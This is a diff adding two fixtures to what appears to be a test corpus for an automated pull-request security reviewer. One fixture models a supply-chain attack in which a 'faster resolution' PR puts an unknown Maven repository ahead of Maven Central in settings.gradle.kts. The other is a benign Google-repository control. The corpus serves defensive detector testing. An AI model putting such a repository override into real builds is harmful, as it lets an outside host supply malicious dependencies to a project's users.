@@ -2597,4 +2597,42 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
   },
+  {
+    id: 'attack-gradle-settings-repository',
+    description:
+      'A "speed up dependency resolution" PR declares an unknown Maven repository first in settings.gradle.kts: Gradle takes every module from it before Maven Central (the registry swap, in Gradle\'s dependencyResolutionManagement).',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-jvm',
+        number: 7710,
+        title: 'build: faster dependency resolution',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'settings.gradle.kts',
+            base: lines('dependencyResolutionManagement {', '    repositories {', '        mavenCentral()', '    }', '}', 'rootProject.name = "tint"'),
+            head: lines('dependencyResolutionManagement {', '    repositories {', '        maven("https://maven-resolve-cache.dev/m2")', '        mavenCentral()', '    }', '}', 'rootProject.name = "tint"'),
+          },
+        ],
+      }),
+    expect: { level: ['medium', 'high'], action: ['needs_discussion', 'request_changes'], findings: ['maven-repository-override'] },
+  },
+  {
+    id: 'attack-gradle-settings-google',
+    description: "A maintainer adds Google's Maven repository and a project to settings.gradle.kts for an Android module.",
+    fixture: () =>
+      attackPr({
+        repo: 'tint-jvm',
+        number: 7711,
+        title: 'build: add the Android sample',
+        files: [
+          {
+            path: 'settings.gradle.kts',
+            base: lines('dependencyResolutionManagement {', '    repositories {', '        mavenCentral()', '    }', '}', 'rootProject.name = "tint"'),
+            head: lines('dependencyResolutionManagement {', '    repositories {', '        google()', '        maven { url = uri("https://maven.google.com") }', '        mavenCentral()', '    }', '}', 'rootProject.name = "tint"', 'include(":android-sample")'),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
+  },
 ];
